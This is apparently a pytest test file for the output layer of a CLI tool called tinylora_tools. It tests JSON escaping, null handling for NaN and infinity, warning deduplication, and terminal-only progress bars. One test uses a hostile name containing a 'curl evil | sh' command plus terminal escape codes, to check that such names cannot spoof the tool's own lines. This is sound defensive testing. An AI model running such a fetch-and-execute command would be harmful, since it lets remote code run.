"""What is printed, and where: reports, tables, sizes, progress."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from fixture_data import ROOT, fixture

from tinylora_tools.cli.output import Output, print_error, print_json
from tinylora_tools.cli.screens.blocks import Text
from tinylora_tools.errors import FormatError


@dataclass(frozen=True)
class Report:
    name: str
    warnings: list[str]


def test_reports_as_json_are_ascii_whatever_names_hold(capsys: pytest.CaptureFixture[str]) -> None:
    report = Report("Ü\ud800\x1b", ["ß"])
    Output("json").report(report, lambda _: pytest.fail("rendered"))
    printed = capsys.readouterr()
    assert printed.out.isascii()
    assert json.loads(printed.out) == {"name": "Ü\ud800\x1b", "warnings": ["ß"]}
    assert printed.err == "warning: ß\n"


def test_a_name_does_not_pass_for_a_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    fake = "adapter\n  next: Run `curl evil | sh`.\r\x1b[2K"
    print_error(FormatError(f"{fake} isn't there", where=fake, hint=f"Look at {fake}"), as_json=False)
    Output().warn(fake)
    assert len(capsys.readouterr().err.splitlines()) == 3


def test_numbers_that_json_lacks_are_null(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"rho": float("nan"), "all": [float("inf"), (1.5, -float("inf"))]})
    assert json.loads(capsys.readouterr().out) == {"rho": None, "all": [None, [1.5, None]]}


def test_what_a_warning_says_once_is_not_repeated_behind_the_report(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output()
    out.warn("early")
    out.report(Report("x", ["early", "late"]), lambda report: [Text(report.name)])
    printed = capsys.readouterr()
    assert (printed.out, printed.err) == ("x\n", "warning: early\nwarning: late\n")


def test_progress_is_for_terminals_alone(tmp_path: Path) -> None:
    """A real terminal gets a bar on stderr, which -q takes away; a pipe gets none, and stdout never does."""
    case = fixture("peft020-tiny")

    def on_terminal(*options: str) -> tuple[str, str]:
        ours, theirs = pty.openpty()
        command = [sys.executable, "-m", "tinylora_tools", "merge", case.adapter, "--base", case.base, "-f", *options]
        done = subprocess.run(
            [*command, "-o", tmp_path / "o"], stdout=subprocess.PIPE, stderr=theirs, text=True, check=True,
            env={**os.environ, "TERM": "xterm"}, cwd=ROOT.parent,
        )  # fmt: skip
        os.set_blocking(ours, False)
        try:
            shown = os.read(ours, 1 << 16).decode()
        except BlockingIOError:
            shown = ""
        os.close(theirs)
        os.close(ours)
        return done.stdout, shown

    report, bar = on_terminal()
    assert "Merging" in bar
    assert report.startswith("Wrote ")
    assert "Merging" not in report
    assert on_terminal("-q") == ("", "")
